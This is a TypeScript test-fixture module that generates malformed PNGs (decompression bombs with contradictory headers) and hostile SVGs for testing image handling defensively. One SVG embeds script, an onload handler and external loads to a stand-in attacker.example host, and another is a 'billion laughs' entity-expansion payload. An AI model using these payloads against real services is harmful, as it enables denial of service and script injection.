import { crc32, deflateSync } from 'node:zlib';

/** Returns a chunk of a PNG with its length and checksum (PNG, section 5.3). */
function makeChunk(type: string, content: Buffer): Buffer {
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  const typeAndContent = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  length.writeUInt32BE(content.length);
  checksum.writeUInt32BE(crc32(typeAndContent));
  return Buffer.concat([length, typeAndContent, checksum]);
}

type PngOptions = {
  /** Width and height in px according to the header. */
  width: number;
  height: number;
  /** Number of bytes of all rows before compression. A complete row has a filter byte and `width` grey values. */
  rowBytes: number;
  /** Number of bytes of a comment before compression. No comment by default. */
  commentBytes?: number;
};

/**
 * Creates a greyscale PNG, whose header and rows can contradict each other. All of its pixels are black, so that even a
 * huge picture compresses to a small file.
 */
export function makePng({ width, height, rowBytes, commentBytes = 0 }: PngOptions): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  const text = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(commentBytes))]);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    makeChunk('IHDR', header),
    ...(commentBytes > 0 ? [makeChunk('zTXt', text)] : []),
    makeChunk('IDAT', deflateSync(Buffer.alloc(rowBytes))),
    makeChunk('IEND', Buffer.alloc(0)),
  ]);
}

const makeSvg = (content: string, prolog = '') =>
  Buffer.from(`${prolog}<svg xmlns="http://www.w3.org/2000/svg" width="50" height="60">${content}</svg>`);

/** An SVG that tries to run scripts and to load files. Browsers must block both when they show it as an image. */
export const activeSvg = makeSvg(`
  <script>top.attacked = true; fetch('https://attacker.example/script')</script>
  <rect width="50" height="60" fill="red" onload="top.attacked = true"/>
  <image href="https://attacker.example/image.png" width="9" height="9"/>
  <use href="https://attacker.example/use.svg#a"/>
  <style>@import url(https://attacker.example/style.css); rect { fill: url(https://attacker.example/fill.svg#a) }</style>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/></foreignObject>`);

/** An SVG whose text would grow to 10^9 copies of a word ("billion laughs"). */
export const growingSvg = makeSvg(
  '<text>&e9;</text>',
  `<!DOCTYPE svg [<!ENTITY e0 "word">${Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')}]>`,
);
